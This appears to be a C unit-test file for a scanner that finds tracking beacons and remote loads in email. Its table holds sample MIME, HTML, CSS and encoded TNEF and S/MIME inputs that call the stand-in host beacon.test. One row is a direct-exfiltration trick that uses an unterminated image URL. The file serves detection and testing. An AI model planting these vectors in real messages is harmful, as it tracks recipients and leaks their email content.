    { "mime-external-url", 'M', "Content-Type: message/external-body; access-type=URL; URL=\"http://beacon.test/ID\"\n\nContent-Type: text/plain\n\n", "http://beacon.test/ID" },
    { "mime-external-ftp", 'M', "Content-Type: message/external-body; access-type=anon-ftp; site=\"beacon.test\"; name=\"ID\"\n\n", "ftp://beacon.test/ID" },
    { "mime-external-mailserver", 'M', "Content-Type: message/external-body; access-type=mail-server; server=\"ID@beacon.test\"\n\n", "mailto:ID@beacon.test" },
    { "mime-external-localfile", 'M', "Content-Type: message/external-body; access-type=local-file; name=\"\\\\\\\\beacon.test\\\\s\\\\ID\"\n\n", "|beacon.test" },
    { "mime-alt-hidden", 'M', "Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src=\"http://beacon.test/ID\">\n--b\nContent-Type: text/plain\n\nhi\n--b--\n", "http://beacon.test/ID" },
    { "mime-watch-html", 'M', "Content-Type: text/watch-html\n\n<img src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "mime-amp", 'M', "Content-Type: text/x-amp-html\n\n<amp-list src=\"https://beacon.test/ID\"></amp-list>", "https://beacon.test/ID" },
    { "mime-enriched", 'M', "Content-Type: text/enriched\n\n<x><param>http://beacon.test/ID</param>x</x>", "http://beacon.test/ID" },
    { "mime-related-start", 'M', "Content-Type: multipart/related; boundary=b; start=\"<c>\"\n\n--b\nContent-Type: text/html\n\n<p>x\n--b\nContent-Type: image/gif\n\nx\n--b\nContent-Type: text/html\nContent-ID: <c>\n\n<img src=\"http://beacon.test/ID\">\n--b--\n", "http://beacon.test/ID" },
    { "mime-inline-html-att", 'M', "Content-Type: multipart/mixed; boundary=b\n\n--b\n\nhi\n--b\nContent-Type: text/html\nContent-Disposition: inline; filename=a.html\n\n<img src=\"http://beacon.test/ID\">\n--b--\n", "http://beacon.test/ID" },
    { "mime-rfc822", 'M', "Content-Type: message/rfc822\n\nContent-Type: text/html\n\n<img src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "mime-partial", 'M', "Content-Type: message/partial; id=ID; number=1; total=2\n\nx", "" },
    { "mime-disposition-part", 'M', "Content-Type: multipart/report; boundary=b; report-type=delivery-status\n\n--b\n\nhi\n--b\nContent-Type: message/delivery-status\n\nAction: x\n\n--b\nContent-Type: text/html\n\n<img src=\"http://beacon.test/ID\">\n--b--\n", "http://beacon.test/ID" },
    { "mime-direct-exfil", 'M', "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src=\"http://beacon.test/ID/\n--b\nContent-Type: application/pkcs7-mime\n\nx\n--b--\n", "http://beacon.test/ID/" },
    { "mime-charset-url", 'M', "Content-Type: text/html; charset=\"http://beacon.test/ID\"\n\nx", "http://beacon.test/ID" },
    { "mime-tnef", 'M', "Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n\neJ8+IgEAAQOQBgAwAAAAAQAAAAIBExABAAAAHwAAADxpbWcgc3JjPWh0dHA6Ly9iZWFjb24udGVzdC9JRD4ADQs=\n",
      "http://beacon.test/ID" },
    { "tnef-reminder", 'M', "Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n\neJ8+IgEAAQOQBgBYAAAAAQAAAB8AAYAIIAYAAAAAAMAAAAAAAABGAAAAAB+FAAABAAAALgAAAFwAXABiAGUAYQBjAG8A\n"
      "bgAuAHQAZQBzAHQAXABzAFwASQBEAC4AdwBhAHYAAAAAAOoK\n", "|beacon.test" },
    { "tnef-attach-ref", 'M', "Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n\neJ8+IgEAAgWQBgAkAAAAAQAAAB4ADTcBAAAAEwAAAFxcYmVhY29uLnRlc3Rcc1xJRAAAPQc=\n", "|beacon.test" },
    { "hdr-mapi-read-receipt", 'M', "Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n\neJ8+IgEAAQOQBgAMAAAAAQAAAAsAKQABAAAANgA=\n", "" },
    { "outlook-voting", 'M', "Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n\neJ8+IgEAAQOQBgAsAAAAAQAAAAIBAYAIIAYAAAAAAMAAAAAAAABGAAAAACCFAAABAAAAAgAAAAIBAABkAg==\n", "" },
    /* ours */
    { "a-href", 'H', "<a href=\"http://beacon.test/ID\">x</a>", "http://beacon.test/ID" },
    { "mime-encrypted-inner", 'M', "Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\nContent-Transfer-Encoding: base64\n\n"
      "MIAGCSqGSIb3DQEHAqCAMIACAQExADCABgkqhkiG9w0BBwGggCSABDpDb250ZW50LVR5cGU6IHRl\neHQvaHRtbAoKPGltZyBzcmM9Imh0dHA6Ly9iZWFjb24udGVzdC9JRCI+AAAAAAAAMQAAAAAAAAA=\n",
      "http://beacon.test/ID" },
    { "unknown-attribute", 'H', "<img src=cid:a frobnicate=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "unknown-css", 'S', "p{frobnicate:url(http://beacon.test/ID)}", "http://beacon.test/ID" },
};

static void each_row_of_the_survey_is_reported_by_its_name(void **state)
{
    struct bench *b = *state;
    size_t missing = 0;
    for (size_t i = 0; i < UB_COUNT(rows); i++) {
        const struct row *r = &rows[i];
        bench_find(b, r->how, r->text);
        if (bench_has(b, r->vector, r->url)) continue;
        print_message("# %s: %s\n", r->vector, r->text);
        bench_print(b);
        missing++;
    }
    assert_int_equal(missing, 0);
}

/* Complete both ways: each vector that the finder is said to report has a row here, and no other. */
static void the_rows_are_those_that_the_table_says_the_finder_reports(void **state)
{
    (void)state;
    for (size_t v = 1; v < UB_VEC_COUNT; v++) {
        size_t n = 0;
        for (size_t i = 0; i < UB_COUNT(rows); i++) n += ub_str_eq(ub_vectors[v].id, ub_str_of(rows[i].vector, strlen(rows[i].vector)));
        if ((n > 0) != (ub_vectors[v].seen == UB_SEEN_READ)) fail_msg("%.*s: %zu rows", UB_F(ub_vectors[v].id), n);
    }
    for (size_t i = 0; i < UB_COUNT(rows); i++)
        assert_int_not_equal(ub_vector_find(ub_str_of(rows[i].vector, strlen(rows[i].vector))), UB_VEC_NONE);
}

/* What is reported must be in reach of an edit: an open-time finding has a span that is no link. */
static void each_reference_that_loads_has_a_span_to_edit(void **state)
{
    struct bench *b = *state;
    for (size_t i = 0; i < UB_COUNT(rows); i++) {
        bench_find(b, rows[i].how, rows[i].text);
        for (size_t k = 0; k < b->found.findings.n; k++) {
            const ub_finding *x = &b->found.findings.p[k];
            if (x->action == UB_ACTION_KEPT || b->found.docs.p[x->doc].parent != UB_NONE) continue;
            if (x->span == UB_NONE) fail_msg("%s: %s has no span", rows[i].text, ub_vectors[x->vector].id.p);
            if (b->found.spans.p[x->span].unit == UB_UNIT_LINK) fail_msg("%s: %s has a link's span", rows[i].text, ub_vectors[x->vector].id.p);
        }
        for (size_t k = 0; k < b->found.docs.n; k++) {
            const ub_doc *d = &b->found.docs.p[k];
            if (d->parent != UB_NONE && ub_find_dirty(&b->found, (uint32_t)k) && d->span == UB_NONE) fail_msg("%s: the nested document has no span", rows[i].text);
        }
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_row_of_the_survey_is_reported_by_its_name),
        cmocka_unit_test(the_rows_are_those_that_the_table_says_the_finder_reports),
        cmocka_unit_test(each_reference_that_loads_has_a_span_to_edit),
    };
    return cmocka_run_group_tests_name("find rows", tests, bench_open, bench_close);
}
